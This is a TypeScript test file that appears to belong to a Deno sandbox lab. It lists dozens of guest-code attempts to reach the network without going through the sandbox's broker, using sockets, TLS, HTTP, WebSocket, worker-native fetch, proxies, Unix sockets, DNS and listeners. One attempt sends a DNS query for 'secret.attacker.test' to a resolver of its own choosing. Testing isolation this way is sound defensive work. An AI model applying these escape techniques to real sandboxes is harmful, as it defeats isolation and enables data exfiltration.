import { type Attack, sharedLab, testAttacks } from "./lab.ts";

const connects = (row: number, name: string, body: string): Attack => ({
  row,
  name,
  body,
  unguarded: "connects",
  job: { limits: { wallMs: 4_000 } },
});
const works = (row: number, name: string, body: string): Attack => ({
  ...connects(row, name, body),
  unguarded: "works",
});
/** Node's sockets tell of a refusal when nobody listens any more: the run ends at its limit. */
const late = (attack: Attack): Attack => ({
  ...attack,
  ends: ["threw", "limit"],
  job: { limits: { wallMs: 700 } },
});
const unproved = (row: number, name: string, body: string): Attack => ({
  ...connects(row, name, body),
  unguarded: "unproved",
});

const mod = (name: string) => `process.getBuiltinModule("${name}")`;
/** The runtime's own fetch: the guest's global one asks the host. */
const NATIVE = `
  const native = (text) => new Promise((ok, no) => {
    const w = new Worker("data:text/javascript," + encodeURIComponent(text), { type: "module" });
    w.onmessage = ({ data }) => \`\${data}\`.startsWith("no: ") ? no(new Error(data)) : ok(data);
    w.onerror = (e) => { e.preventDefault(); no(new Error(e.message)); };
  });`;
const tell = (code: string) =>
  `${NATIVE} return await native(\`(async () => (${code}))().then(postMessage, (e) => postMessage("no: " + e))\`);`;
const socket = (open: string) =>
  `return await new Promise((ok, no) => { const s = ${open}; s.on("connect", () => ok("open")); s.on("error", no); });`;

/** Every way to the network that is not the broker. */
const ATTACKS: readonly Attack[] = [
  connects(
    49,
    "Deno.connect",
    `(await Deno.connect({ hostname: "127.0.0.1", port: $port })).close(); return 1;`,
  ),
  connects(
    49,
    "Deno.connect by IPv6",
    `(await Deno.connect({ hostname: "::1", port: $port })).close(); return 1;`,
  ),
  connects(
    49,
    "Deno.connect by name",
    `(await Deno.connect({ hostname: "localhost", port: $port })).close(); return 1;`,
  ),
  connects(
    49,
    "Deno.connect by an odd spelling",
    `(await Deno.connect({ hostname: "0", port: $port })).close(); return 1;`,
  ),
  connects(
    49,
    "Deno.connectTls",
    `await Deno.connectTls({ hostname: "127.0.0.1", port: $port }).catch((e) => { if (e.name === "NotCapable") throw e; }); return 1;`,
  ),
  connects(49, "node:net", socket(`${mod("net")}.connect($port, "127.0.0.1")`)),
  connects(
    49,
    "node:net with a lookup of its own",
    socket(
      `${
        mod("net")
      }.connect({ port: $port, host: "example.com", lookup: (h, o, done) => o.all ? done(null, [{ address: "127.0.0.1", family: 4 }]) : done(null, "127.0.0.1", 4) })`,
    ),
  ),
  connects(
    49,
    "node:tls",
    `return await new Promise((ok, no) => { const s = ${
      mod("tls")
    }.connect($port, "127.0.0.1", {}); s.on("error", no); s.on("secureConnect", ok); });`,
  ),
  connects(
    49,
    "node:http",
    `return await new Promise((ok, no) => ${
      mod("http")
    }.get("$origin", (r) => ok(r.statusCode)).on("error", no));`,
  ),
  connects(
    49,
    "node:http through an agent",
    `const http = ${
      mod("http")
    }; return await new Promise((ok, no) => http.request({ host: "127.0.0.1", port: $port, agent: new http.Agent({ keepAlive: false }) }, (r) => ok(r.statusCode)).on("error", no).end());`,
  ),
  connects(
    49,
    "node:https",
    `return await new Promise((ok, no) => ${
      mod("https")
    }.get("https://127.0.0.1:$port", (r) => ok(r.statusCode)).on("error", no));`,
  ),
  connects(
    49,
    "node:http2",
    `return await new Promise((ok, no) => { const s = ${
      mod("http2")
    }.connect("$origin"); s.on("error", no); s.on("connect", () => ok("open")); });`,
  ),
  late(connects(
    49,
    "a datagram",
    `return await new Promise((ok, no) => { const s = ${
      mod("dgram")
    }.createSocket("udp4"); s.on("error", no); s.send("x", $port, "127.0.0.1", (e) => e ? no(e) : (s.close(), ok(1))); });`,
  )),
  unproved(
    49,
    "a datagram of Deno",
    `const s = Deno.listenDatagram({ port: 0, transport: "udp" }); await s.send(new Uint8Array(1), { transport: "udp", hostname: "127.0.0.1", port: $port }); return 1;`,
  ),
  connects(
    49,
    "WebSocket",
    `return await new Promise((ok, no) => { const s = new WebSocket("ws://127.0.0.1:$port"); s.onopen = () => ok("open"); s.onerror = (e) => no(new Error(e.message)); });`,
  ),
  unproved(49, "WebSocketStream", `return await new WebSocketStream("ws://127.0.0.1:$port").opened;`),
  unproved(49, "WebTransport", `return await new WebTransport("https://127.0.0.1:$port").ready;`),
  unproved(
    49,
    "QUIC",
    `return await Deno.connectQuic({ hostname: "127.0.0.1", port: $port, alpnProtocols: ["x"] });`,
  ),
  connects(
    49,
    "EventSource",
    `return await new Promise((ok, no) => { const s = new EventSource("$origin"); s.onopen = () => ok("open"); s.onerror = () => { s.close(); no(new Error("refused")); }; });`,
  ),
  unproved(
    49,
    "sendBeacon",
    `if (!navigator.sendBeacon("$origin", "x")) throw new Error("refused"); return 1;`,
  ),
  unproved(
    49,
    "XMLHttpRequest",
    `const x = new XMLHttpRequest(); x.open("GET", "$origin"); x.send(); return 1;`,
  ),
  connects(49, "the native fetch of a worker", tell(`(await fetch("$origin")).text()`)),
  connects(
    49,
    "the native fetch of a worker by name",
    tell(`(await fetch("http://localhost:$port")).text()`),
  ),
  connects(
    49,
    "the native fetch of a worker in a worker",
    tell(
      `new Promise((ok, no) => { const w = new Worker("data:text/javascript," + encodeURIComponent('fetch("$origin").then((r) => r.text()).then(postMessage, (e) => postMessage("no: " + e))'), { type: "module" }); w.onmessage = (e) => ok(e.data); w.onerror = (e) => { e.preventDefault(); no(e.message); }; })`,
    ),
  ),
  unproved(49, "the cache's own fetch", tell(`(await caches.open("x")).add("$origin")`)),
  connects(49, "streaming compilation in a worker", tell(`WebAssembly.compileStreaming(fetch("$origin"))`)),
  connects(
    49,
    "a client of its own",
    `const client = Deno.createHttpClient({}); ${NATIVE} const r = await (await import("data:text/javascript," + encodeURIComponent("export default (0, fetch)"))).default("$origin", { client }); return r.status;`,
  ),
  connects(
    49,
    "a proxy of its own",
    `Deno.createHttpClient({ proxy: { url: "$origin" } }).close(); return await new Promise((ok, no) => ${
      mod("http")
    }.get({ host: "127.0.0.1", port: $port, path: "http://example.com/" }, (r) => ok(r.statusCode)).on("error", no));`,
  ),
  works(
    49,
    "a path socket",
    `${""}const net = ${
      mod("net")
    }; return await new Promise((ok, no) => { const s = net.connect("$new"); s.on("connect", () => ok(1)); s.on("error", (e) => e.code === "ENOENT" ? ok("looked") : no(e)); });`,
  ),
  works(
    49,
    "an abstract socket",
    `const net = ${
      mod("net")
    }; return await new Promise((ok, no) => { const s = net.connect({ path: "\\0nobody" }); s.on("connect", () => ok(1)); s.on("error", (e) => ["ECONNREFUSED", "ENOENT", "EINVAL"].includes(e.code) ? ok("looked") : no(e)); });`,
  ),
  unproved(49, "a vsock", `return String(await Deno.connect({ transport: "vsock", cid: 2, port: 1024 }));`),
  works(
    73,
    "Deno.resolveDns",
    `return await Deno.resolveDns("localhost", "A", { nameServer: { ipAddr: "127.0.0.1", port: $port } }).catch((e) => { if (e.name === "NotCapable") throw e; return "asked"; });`,
  ),
  works(
    73,
    "dns.lookup",
    `return await new Promise((ok, no) => ${mod("dns")}.lookup("localhost", (e, a) => e ? no(e) : ok(a)));`,
  ),
  works(73, "dns.promises.lookup", `return (await ${mod("dns")}.promises.lookup("localhost")).address;`),
  connects(
    73,
    "dns.resolve at a server of its choice",
    `const dns = ${
      mod("dns")
    }; const r = new dns.Resolver({ timeout: 200, tries: 1 }); r.setServers(["127.0.0.1:$port"]); return await new Promise((ok, no) => r.resolve4("secret.attacker.test", (e, a) => e ? (/ETIMEOUT|TIMEOUT|ECONNREFUSED/.test(e.code) ? ok(e.code) : no(e)) : ok(a)));`,
  ),
  works(
    73,
    "dns.reverse",
    `return await new Promise((ok, no) => ${
      mod("dns")
    }.lookupService("127.0.0.1", 22, (e, host) => e ? no(e) : ok(host)));`,
  ),
  works(74, "Deno.listen", `Deno.listen({ port: 0 }).close(); return 1;`),
  works(74, "Deno.listen on loopback", `Deno.listen({ hostname: "127.0.0.1", port: 0 }).close(); return 1;`),
  works(74, "Deno.listen on IPv6", `Deno.listen({ hostname: "::1", port: 0 }).close(); return 1;`),
  unproved(
    74,
    "Deno.listen on a path",
    `Deno.listen({ transport: "unix", path: "$new" }).close(); return 1;`,
  ),
  unproved(74, "Deno.listenTls", `Deno.listenTls({ port: 0, cert: "", key: "" }).close(); return 1;`),
  works(
    74,
    "Deno.serve",
    `await Deno.serve({ port: 0, onListen() {} }, () => new Response()).shutdown(); return 1;`,
  ),
  late(works(
    74,
    "node:net",
    `return await new Promise((ok, no) => { const s = ${
      mod("net")
    }.createServer(); s.on("error", no); s.listen(0, "127.0.0.1", () => s.close(() => ok(1))); });`,
  )),
  works(
    74,
    "node:http",
    `return await new Promise((ok, no) => { const s = ${
      mod("http")
    }.createServer(); s.on("error", no); s.listen(0, () => s.close(() => ok(1))); });`,
  ),
  late(works(
    74,
    "node:dgram",
    `return await new Promise((ok, no) => { const s = ${
      mod("dgram")
    }.createSocket("udp4"); s.on("error", no); s.bind(0, () => s.close(() => ok(1))); });`,
  )),
  unproved(
    74,
    "the inspector",
    `${mod("inspector")}.open(0, "127.0.0.1"); return ${mod("inspector")}.url();`,
  ),
];

testAttacks(sharedLab(), ATTACKS);
